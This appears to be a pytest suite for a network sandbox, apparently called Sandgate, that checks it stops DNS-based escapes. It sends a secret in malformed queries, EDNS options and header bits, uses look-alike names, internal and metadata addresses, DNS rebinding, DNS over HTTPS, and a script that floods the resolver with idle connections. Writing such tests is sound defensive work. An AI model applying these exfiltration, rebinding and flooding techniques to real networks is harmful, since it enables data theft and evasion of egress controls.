"""DNS as a way out, and as a way round: messages of every form, data in every field, names that lead elsewhere."""

from __future__ import annotations

import socket
import struct
import uuid

import dns.message
import pytest

from lab import plan
from lab.internet import Internet
from lab.sandgate import Sandgate, after_resolving, allowing, attack, shell

SECRET = "c2VjcmV0IG9mIG1pbmU"
"""What the messages carry."""

pytestmark = pytest.mark.usefixtures("nameserver")


# Messages


def _question(name: str = plan.ALLOWED, kind: str = "A") -> bytes:
    return dns.message.make_query(name, kind, id=4711).to_wire()


def _header(message: bytes, flags: int | None = None, counts: tuple[int, int, int, int] | None = None) -> bytes:
    old_flags, *old_counts = struct.unpack("!HHHHH", message[2:12])
    new = struct.pack("!HHHHH", old_flags if flags is None else flags, *(counts or old_counts))
    return message[:2] + new + message[12:]


def _raw_name(name: bytes) -> bytes:
    return bytes.fromhex("126701000001000000000000") + name + b"\0\1\0\1"


def _record(name: bytes, kind: int, data: bytes, class_: int = 1) -> bytes:
    return name + struct.pack("!HHIH", kind, class_, 60, len(data)) + data


MALFORMED = {
    "no question": _header(_question()[:12], counts=(0, 0, 0, 0)),
    "a count of no question": _header(_question(), counts=(0, 0, 0, 0)),
    "50 questions": _header(_question() + _question()[12:] * 49, counts=(50, 0, 0, 0)),
    "an answer": _header(_question() + _record(b"\xc0\x0c", 16, b"\x13" + SECRET.encode()), counts=(1, 1, 0, 0)),
    "an authority": _header(_question() + _record(b"\xc0\x0c", 16, b"\x13" + SECRET.encode()), counts=(1, 0, 1, 0)),
    "counts of what is not there": _header(_question(), counts=(1, 9, 9, 9)),
    "notify": _header(_question(), flags=0x2000),
    "inverse query": _header(_question(), flags=0x0800),
    "status": _header(_question(), flags=0x1000),
    "stateful operations": _header(_question(), flags=0x3000),
    "opcode 15": _header(_question(), flags=0x7900),
    "truncated response": _header(_question(), flags=0x8380),
    "class any": dns.message.make_query(plan.ALLOWED, "A", rdclass="ANY").to_wire(),
    "class hesiod": dns.message.make_query(plan.ALLOWED, "A", rdclass="HS").to_wire(),
    "class none": dns.message.make_query(plan.ALLOWED, "A", rdclass="NONE").to_wire(),
    "forward pointer": _raw_name(b"\xc0\x40"),
    "pointer into the header": _raw_name(b"\xc0\x00"),
    "pointer to its own end": _raw_name(b"\x07allowed\xc0\x0c"),
    "reserved label": _raw_name(b"\x80allowed\x07example\0"),
    "extended label": _raw_name(b"\x41\x08allowed\x07example\0"),
    "name without its end": _raw_name(b"\x07allowed\x07example"),
    "question cut off": _question()[:-2],
    "incremental transfer": _question(kind="IXFR"),
    "label with a slash and a space": _raw_name(b"\x0ballow/ed .x\x07example\0"),
    "label with a line end": _raw_name(b"\x09allowed\r\n\x07example\0"),
    "label with a high byte": _raw_name(b"\x08allow\xc3\xa9d\x07example\0"),
    "root": _raw_name(b"\0"),
}


@pytest.mark.attack(
    "D2 N7",
    "sends records in a query, wrong counts, other opcodes and classes, pointers forward and into the header, odd labels",
    stopped_by="dns",
)
@pytest.mark.parametrize("tcp", [False, True], ids=["udp", "tcp"])
@pytest.mark.parametrize("name", MALFORMED)
def test_message_that_is_no_query(internet: Internet, sandgate: Sandgate, name: str, tcp: bool) -> None:
    command = attack("query", plan.DNS4, "--hex", MALFORMED[name].hex(), *(["--tcp"] if tcp else []))
    with internet.capture(f"port 53 and host {plan.DNS4}", unenforced=True) as outside:
        internet.unenforced(command)
    assert MALFORMED[name] in outside.payload

    with internet.capture("port 53") as outside:
        run = sandgate.run(allowing(plan.ALLOWED), *command)
    assert not outside.lines, f"{run}\n{outside}"


def _opt(code: int, data: bytes = SECRET.encode(), version: int = 0, flags: int = 0) -> bytes:
    """An OPT record with one option (RFC 6891)."""
    option = struct.pack("!HH", code, len(data)) + data
    return b"\0" + struct.pack("!HHBBHH", 41, 1232, 0, version, flags, len(option)) + option


def _with_option(code: int, data: bytes = SECRET.encode(), version: int = 0, flags: int = 0) -> bytes:
    return _header(_question(), counts=(1, 0, 0, 1)) + _opt(code, data, version, flags)


def _signed() -> bytes:
    """A transaction signature (RFC 8945) that is the secret."""
    data = b"\x04hmac\0" + bytes(6) + b"\1\54" + struct.pack("!H", len(SECRET)) + SECRET.encode() + bytes(6)
    return _header(_question(), counts=(1, 0, 0, 1)) + _record(b"\x03key\0", 250, data, 255)


CARRIERS = {
    **{f"option {code}": _with_option(code) for code in (3, 5, 9, 10, 12, 13, 14, 15, 16, 26946, 65001, 65534)},
    "client subnet": _with_option(8, b"\0\1\x20\0" + b"c2Vj"),
    "version 1": _with_option(65001, version=1),
    "flags": _with_option(65001, flags=0x5A5A),
    "signature": _signed(),
    "additional text": _header(_question(), counts=(1, 0, 0, 1)) + _record(b"\xc0\x0c", 16, b"\x13" + SECRET.encode()),
    "additional address of another name": _header(_question(), counts=(1, 0, 0, 1))
    + _record(bytes([len(SECRET)]) + SECRET.encode() + b"\0", 1, b"\1\2\3\4"),
    "two opts": _header(_question() + _opt(65001) + _opt(65002), counts=(1, 0, 0, 2)),
}


@pytest.mark.attack(
    "D3", "carries data in EDNS options and other additional records of an allowed query", stopped_by="dns"
)
@pytest.mark.parametrize("name", CARRIERS)
def test_additional_records(internet: Internet, sandgate: Sandgate, name: str) -> None:
    secret = b"c2Vj" if name == "client subnet" else SECRET.encode()
    command = attack("query", plan.DNS4, "--hex", CARRIERS[name].hex())
    with internet.capture(f"port 53 and host {plan.DNS4}", unenforced=True) as outside:
        internet.unenforced(command)
    assert secret in outside.payload

    with internet.capture("port 53") as outside:
        run = sandgate.run(allowing(plan.ALLOWED), *command)
    assert secret not in outside.payload, f"{run}\n{outside}"


HEADER_BITS = """\
import socket, struct, sys
for number in range(16):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.bind(("", 47200 + number))
        client.connect((sys.argv[1], 53))
        client.settimeout(3)
        name = b"".join(bytes([len(part)]) + part for part in f"bits{number}.wild.example".encode().split(b"."))
        client.send(struct.pack("!HHHHHH", 0xBEEF, 0x0170, 1, 0, 0, 0) + name + b"\\0\\0\\1\\0\\1")
        try: client.recv(512)
        except OSError as error: print(error)
"""


@pytest.mark.attack(
    "D3", "carries data in the identifier, the flags and the source port of an allowed query", stopped_by="dns"
)
def test_header_of_a_query(internet: Internet, sandgate: Sandgate) -> None:
    command = ["/usr/bin/python3", "-c", HEADER_BITS, plan.DNS4]
    ports = "(udp[0:2] >= 47200 and udp[0:2] < 47216)"
    carried = f"udp dst port 53 and (udp[8:2] = 0xbeef or udp[10:2] & 0x00f0 = 0x0070 or {ports})"
    with internet.capture(carried, unenforced=True) as outside:
        internet.unenforced(command)
    assert len(outside.lines) >= 16
    with internet.capture(carried) as outside:
        run = sandgate.run(allowing("*.wild.example"), *command)
    # One in 4,096 of our own has such a port or identifier by chance.
    assert len(outside.lines) <= 1, f"{run}\n{outside}"
    assert len({name for name in internet.dns.names() if "bits" in name}) == 16


@pytest.mark.attack(
    "D1 N7",
    "asks for a name near an allowed one: below it, beside it, look-alikes, without dots, localhost",
    stopped_by="dns",
)
@pytest.mark.parametrize(
    "name",
    ["x.allowed.example", "xallowed.example", "allowed.example.x", "allowed-example", "allowed", "example", "localhost"]
    + ["xn--llowed-cua.example", "аllowed.example", "allowed.exаmple", "allowed_.example", "_.allowed.example", "wpad"]
    + [
        "metadata.google.internal",
        "1.100.51.198.in-addr.arpa",
        "_dns.resolver.arpa",
        "use-application-dns.net",
        "a.local",
    ],
)
def test_name_near_an_allowed_one(internet: Internet, sandgate: Sandgate, name: str) -> None:
    command = attack("query", plan.DNS4, name)
    with internet.capture("port 53", unenforced=True) as outside:
        internet.unenforced(command)
    assert outside.lines
    with internet.capture("port 53") as outside:
        run = sandgate.run(allowing(plan.ALLOWED), *command)
    assert not outside.lines, f"{run}\n{outside}"
    assert run.audit.where(layer="dns", verdict="deny"), run


# The nameserver's address


@pytest.mark.attack(
    "T3 D6",
    "sends to a nameserver's address on other ports: DNS over TLS, over QUIC, over HTTPS, mDNS",
    stopped_by="kernel",
)
@pytest.mark.parametrize("kind", ["tcp", "udp"])
@pytest.mark.parametrize("port", [54, 80, 443, 784, 853, 5353, 8053, 8853])
@pytest.mark.parametrize("server", [plan.DNS4, plan.DNS6, plan.OTHER_DNS4], ids=["ours", "ours6", "other"])
def test_other_port_of_a_nameserver(internet: Internet, sandgate: Sandgate, server: str, port: int, kind: str) -> None:
    command = attack("packets", kind, server, port, "to another port")
    towards = f"dst host {server} and dst port {port}"
    with internet.capture(towards, unenforced=True) as outside:
        internet.unenforced(command)
    assert outside.lines
    with internet.capture(towards) as outside:
        run = sandgate.run(allowing(plan.ALLOWED), *after_resolving(plan.ALLOWED, then=command))
    assert run.returncode != 0 and not outside.lines, f"{run}\n{outside}"
    assert run.audit.denied("ip", ip=server, port=port, protocol=kind), run


@pytest.mark.attack(
    "D6 N3", "asks a resolver over HTTPS, by its name or at an allowed name's address", stopped_by="tls-sni, kernel"
)
@pytest.mark.parametrize("method", ["GET", "POST"])
@pytest.mark.parametrize("place", ["address", "shared"])
def test_dns_over_https(internet: Internet, sandgate: Sandgate, place: str, method: str) -> None:
    name, address = (plan.DENIED, plan.DENIED4) if place == "address" else (plan.OTHER, plan.SHARED4)
    body = ["--data-binary", _question().hex()] if method == "POST" else []
    command = ["curl", "-sS", "-m", "5", "-X", method, *body, "-H", "Content-Type: application/dns-message"]
    command += ["--connect-to", f"::{address}:", f"https://{name}/dns-query?dns=AAABAAABAAAAAAAA"]
    internet.unenforced(command)
    assert [request.path.split("?")[0] for request in internet.web.requests()] == ["/dns-query"]
    run = sandgate.run(allowing(plan.ALLOWED), *after_resolving(plan.ALLOWED, then=command))
    assert run.returncode != 0 and internet.web.requests() == [], run


# Budgets


@pytest.mark.attack(
    "D4", "carries data in names as long as names can be, below an allowed wildcard", stopped_by="limits, dns"
)
def test_long_names_below_a_wildcard(internet: Internet, sandgate: Sandgate) -> None:
    """The names are too few for the budget of names, and too long for the budget of bytes."""
    script = (
        "import socket\n"
        "for number in range(150):\n"
        f"    try: socket.gethostbyname('.'.join([f'{{number:03}}' + 'x' * 55] * 4) + '.{plan.WILD}')\n"
        "    except OSError: pass\n"
    )
    command = ["/usr/bin/python3", "-c", script]
    internet.unenforced(command)
    assert len(internet.dns.names()) == 150
    run = sandgate.run(allowing(f"*.{plan.WILD}"), *command)
    asked = internet.dns.names()
    assert 0 < sum(map(len, asked)) <= 25_000, len(asked)
    assert run.audit.denied("dns", reason="dns-budget"), run.stderr


@pytest.mark.attack(
    "D4 P6", "carries data in names below an allowed wildcard that the proxy resolves for it", stopped_by="limits, dns"
)
@pytest.mark.parametrize("way", ["connect", "socks", "absolute form"])
def test_names_that_the_proxy_resolves(internet: Internet, sandgate: Sandgate, way: str) -> None:
    script = f"""
import socket
for number in range(400):
    name = f"proxied-{{number}}.{plan.WILD}"
    with socket.create_connection(("127.0.0.1", 64128), 5) as client:
        client.settimeout(5)
        if "{way}" == "connect":
            client.sendall(f"CONNECT {{name}}:80 HTTP/1.1\\r\\nHost: {{name}}:80\\r\\n\\r\\n".encode())
        elif "{way}" == "socks":
            client.sendall(b"\\5\\1\\0\\5\\1\\0\\3" + bytes([len(name)]) + name.encode() + b"\\0\\x50")
        else:
            client.sendall(f"GET http://{{name}}/ HTTP/1.1\\r\\nHost: {{name}}\\r\\n\\r\\n".encode())
        try: client.recv(100)
        except OSError: pass
"""
    run = sandgate.run(allowing(f"*.{plan.WILD}"), "/usr/bin/python3", "-c", script, timeout=120)
    asked = {name for name in internet.dns.names() if name.startswith("proxied-")}
    assert 0 < len(asked) <= 250, f"{len(asked)} {run.stderr}"
    assert run.audit.where(reason="dns-budget", verdict="deny"), run.stderr


FLOOD = """\
import socket, sys
server, name = sys.argv[1:]
def query(name, number=1):
    labels = b"".join(bytes([len(part)]) + part for part in name.encode().split(b"."))
    message = number.to_bytes(2, "big") + b"\\1\\0\\0\\1" + bytes(6) + labels + b"\\0\\0\\1\\0\\1"
    return len(message).to_bytes(2, "big") + message
def connect():
    client = socket.create_connection((server, 53), 5)
    client.settimeout(5)
    return client
idle, refused = [], 0
for _ in range(600):
    try: idle.append(connect())
    except OSError: refused += 1
for number, client in enumerate(idle):
    # Some are silent, some slow: they have begun a message and do not go on.
    if number % 3:
        try: client.send(query(name)[: number % 20 + 1])
        except OSError: refused += 1
print("idle", len(idle), "refused", refused, flush=True)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
    client.settimeout(5)
    client.connect((server, 53))
    client.send(query(name)[2:])
    print("udp", len(client.recv(512)) > 40, flush=True)
for client in idle[: len(idle) // 2]:
    client.close()
with connect() as client:
    client.sendall(b"".join(query(name if number % 2 else f"denied{number}.example", number) for number in range(200)))
    reader, seen = client.makefile("rb"), set()
    for _ in range(200):
        message = reader.read(int.from_bytes(reader.read(2), "big"))
        seen.add(int.from_bytes(message[:2], "big"))
    print("pipelined", len(seen), flush=True)
"""


@pytest.mark.attack(
    "D7 B3",
    "holds hundreds of silent and slow connections to the resolver, and pipelines hundreds of queries",
    stopped_by="limits",
)
def test_idle_and_pipelining_clients(internet: Internet, sandgate: Sandgate) -> None:
    """Others, and it itself, are answered; denied names among pipelined ones are not asked for."""
    command = ["/usr/bin/python3", "-c", FLOOD, plan.DNS4, plan.ALLOWED]
    # dnsmasq forks a process for each of these, up to a limit, and serves no others.
    assert "pipelined 200" not in internet.unenforced(["timeout", "8", *command]).stdout
    other = sandgate.start(allowing(plan.ALLOWED), shell(f"echo begun; read go; curl -sS -m 5 http://{plan.ALLOWED}/"))
    other.wait_for("begun")
    internet.forget()
    run = sandgate.run(allowing(plan.ALLOWED), *command, timeout=120)
    assert "udp True" in run.stdout and "pipelined 200" in run.stdout, run
    assert internet.dns.names() <= {plan.ALLOWED}
    assert other.process.stdin is not None
    other.process.stdin.write("go\n")
    other.process.stdin.flush()
    assert f"served {plan.ALLOWED}" in other.finish().stdout


# Answers

LEADS = {
    "0.1.2.3": "A",
    "10.0.0.1": "A",
    "100.64.0.1": "A",
    "127.0.0.2": "A",
    "127.255.255.254": "A",
    "168.63.129.16": "A",
    "169.254.0.1": "A",
    "172.16.0.1": "A",
    "172.31.255.254": "A",
    "192.168.0.1": "A",
    "198.18.0.1": "A",
    "198.19.255.254": "A",
    "224.0.0.251": "A",
    "239.255.255.250": "A",
    "240.0.0.1": "A",
    "255.255.255.255": "A",
    "::": "AAAA",
    "::1": "AAAA",
    "::ffff:10.99.0.1": "AAAA",
    "::ffff:169.254.169.254": "AAAA",
    "::10.99.0.1": "AAAA",
    "::127.0.0.1": "AAAA",
    "64:ff9b::a63:1": "AAAA",
    "64:ff9b::a9fe:a9fe": "AAAA",
    "64:ff9b:1::a63:1": "AAAA",
    "2002:a63:1::1": "AAAA",
    "2002:a9fe:a9fe::": "AAAA",
    "2001:0:a63:1::1": "AAAA",
    "2001:0:102:304:0:0:f59c:fffe": "AAAA",
    "fe80::1": "AAAA",
    "febf::1": "AAAA",
    "fc00::1": "AAAA",
    "fd00:ec2::254": "AAAA",
    "ff02::1": "AAAA",
    "ff0e::1": "AAAA",
}


@pytest.mark.attack(
    "N4",
    "uses an allowed name that resolves to an address of every guard range, and to its translated forms",
    stopped_by="dns",
)
@pytest.mark.parametrize("address", LEADS)
def test_name_that_leads_to(internet: Internet, sandgate: Sandgate, address: str) -> None:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    name = f"to-{socket.inet_pton(family, address).hex()}.hostile.example"
    query = attack("query", plan.SCRIPTED_DNS4, name, LEADS[address])
    shown = socket.inet_ntop(family, socket.inet_pton(family, address))
    assert shown in internet.unenforced(query).stdout
    reach = attack("packets", "tcp", name, plan.CANARY_PORT, "through a name")
    run = sandgate.run(
        allowing("*.hostile.example"),
        *shell(f"{' '.join(query)}; {' '.join(reach[:-1])} guarded"),
        upstream_dns=plan.SCRIPTED_DNS4,
    )
    assert f" {shown}\n" not in run.stdout, run
    assert internet.sinks.arrivals() == [] and internet.canary.arrivals() == [], run
    assert run.audit.where(host=name, reason="guard-range", verdict="deny"), run


@pytest.mark.attack(
    "N5 P6",
    "has the proxy resolve a name again that led to a good address before, and now to the node",
    stopped_by="dns",
)
@pytest.mark.parametrize("way", ["connect", "socks"])
def test_rebinding_through_the_proxy(internet: Internet, sandgate: Sandgate, way: str) -> None:
    name = f"rebind.{uuid.uuid4().hex}.hostile.example"
    good = " ".join(attack("query", plan.DNS4, name))
    if way == "connect":
        tunnel = attack("tunnel", f"{name}:{plan.CANARY_PORT}", "rebound")
    else:
        tunnel = attack("socks", name, plan.CANARY_PORT, "--text", "rebound")
    script = f"{good}; sleep 1.2; {' '.join(tunnel)}"
    options = ["--proxy-env", "--socks-env"]
    run = sandgate.run(allowing("*.hostile.example"), *shell(script), upstream_dns=plan.SCRIPTED_DNS4, options=options)
    assert plan.SHARED4 in run.stdout, run
    assert "rebound" not in run.stdout and internet.canary.arrivals() == [] and internet.sinks.arrivals() == [], run


@pytest.mark.attack(
    "N5",
    "goes on using the first answer after the name was bound anew, and the second before",
    stopped_by="dns, kernel",
)
def test_address_of_a_later_answer(internet: Internet, sandgate: Sandgate) -> None:
    """The second answer is a good address of somebody else's: not open before it was given, to no other name after."""
    name = f"wander.{uuid.uuid4().hex}.hostile.example"
    query = " ".join(attack("query", plan.DNS4, name))
    connect = " ".join(f"'{word}'" for word in attack("packets", "tcp", plan.SINK4, 4444, "too early"))
    other = " ".join(
        f"'{word}'" for word in attack("pieces", plan.SINK4, 80, r"GET /x HTTP/1.1\r\nHost: other.example\r\n\r\n")
    )
    script = f"{query}; {connect}; sleep 1.2; {query}; {other}"
    run = sandgate.run(allowing("*.hostile.example"), *shell(script), upstream_dns=plan.SCRIPTED_DNS4)
    assert plan.SHARED4 in run.stdout and plan.SINK4 in run.stdout, run
    assert internet.sinks.arrivals() == [], run
